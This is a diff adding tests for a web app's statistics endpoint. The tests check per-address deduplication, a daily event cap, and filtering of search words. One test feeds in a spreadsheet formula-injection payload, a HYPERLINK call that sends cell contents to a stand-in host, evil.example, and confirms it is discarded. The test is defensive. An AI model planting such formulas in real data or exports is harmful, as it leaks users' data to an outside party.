@@ -1,3 +1,5 @@
+// Runs on: both — twenty writers at once: row locks on the production shape, and PGlite's one
+// session behind the stack's wire server.
 import { randomUUID } from 'node:crypto';
 import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
@@ -88,6 +90,13 @@ async function counters(day?: string): Promise<Record<string, number>> {
 			r.count,
 		]),
 	);
+}
+
+/** `counters` with `added` on top. */
+function plus(counters: Record<string, number>, added: Record<string, number>) {
+	const sum = { ...counters };
+	for (const [key, n] of Object.entries(added)) sum[key] = (sum[key] ?? 0) + n;
+	return sum;
 }
 
 beforeAll(async () => {
@@ -182,6 +191,68 @@ describe('POST /api/stats', () => {
 		expect(await counters()).toEqual({ ...before, 'bakery phone': 2 });
 	});
 
+	it("counts one address's views of a business once in 30 minutes, whatever search words each carries", async () => {
+		// The request as a review sent it: 150 views of one business in three batches from one
+		// address, each with other search words.
+		const before = await counters(today());
+		for (let batch = 0; batch < 3; batch++) {
+			const answer = await send(
+				Array.from({ length: 50 }, (_, i) => ({
+					kind: 'view',
+					business: ids.bakery,
+					words: `bakery ${batch}-${i}`,
+				})),
+				{ from: '127.0.2.1' },
+			);
+			expect(answer.status).toBe(204);
+		}
+		expect(await counters(today())).toEqual(plus(before, { 'bakery view': 1 }));
+	});
+
+	it("keeps only search words that find the business, as the site's search reads them", async () => {
+		const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open report")';
+		const before = await counters(today());
+		// Arbitrary text, and a real search that finds another business: the view counts, the
+		// words do not.
+		await send([{ kind: 'view', business: ids.bakery, words: formula }]);
+		await send([{ kind: 'view', business: ids.bakery, words: 'cedar diner' }]);
+		expect(await counters(today())).toEqual(plus(before, { 'bakery view': 2 }));
+		// Words that find it: kept as the search reads them, punctuation left out.
+		await send([{ kind: 'view', business: ids.bakery, words: '  =Main  STREET Bakery! ' }]);
+		expect(await counters(today())).toEqual(
+			plus(before, { 'bakery view': 3, 'bakery search "main street bakery"': 1 }),
+		);
+		// Even as the service role, record_business_stats keeps only words that find the business.
+		const { error } = await service.rpc('record_business_stats', {
+			p_tenant_id: chambers.tenantId,
+			p_day: today(),
+			p_counts: [
+				{ business: ids.bakery, kind: 'search', words: formula.toLowerCase(), count: 1 },
+				{ business: ids.bakery, kind: 'search', words: 'diner', count: 1 },
+			],
+		});
+		expect(error).toBeNull();
+		expect(await counters(today())).toEqual(
+			plus(before, { 'bakery view': 3, 'bakery search "main street bakery"': 1 }),
+		);
+	});
+
+	it('counts at most 500 events a day from one address', async () => {
+		const from = '127.0.2.2';
+		const before = await counters(today());
+		// 500 cards of ids no business has: each passes the address's filter, the database drops it.
+		for (let batch = 0; batch < 10; batch++) {
+			await send(
+				Array.from({ length: 50 }, () => ({ kind: 'shown', business: randomUUID() })),
+				{ from },
+			);
+		}
+		await send([{ kind: 'phone', business: ids.bakery }], { from });
+		expect(await counters(today())).toEqual(before);
+		await send([{ kind: 'phone', business: ids.bakery }], { from: '127.0.2.3' });
+		expect(await counters(today())).toEqual(plus(before, { 'bakery phone': 1 }));
+	});
+
 	it('refuses what is not a batch from this site, with the reason', async () => {
 		const view = { kind: 'view', business: ids.diner };
 		expect(await send([{ kind: 'search', business: ids.diner }])).toMatchObject({
@@ -230,7 +301,7 @@ describe('POST /api/stats', () => {
 						p_counts: [
 							{ business: ids.bakery, kind: 'view', count: 1 },
 							{ business: ids.diner, kind: 'view', count: 2 },
-							{ business: ids.diner, kind: 'search', words: 'bread', count: 1 },
+							{ business: ids.diner, kind: 'search', words: 'cedar', count: 1 },
 						],
 					});
 					expect(error).toBeNull();
@@ -240,7 +311,7 @@ describe('POST /api/stats', () => {
 		expect(await counters(day)).toEqual({
 			'bakery view': 200,
 			'diner view': 400,
-			'diner search "bread"': 200,
+			'diner search "cedar"': 200,
 		});
 
 		// And through the function: twenty visitors' batches at once on the same counters.
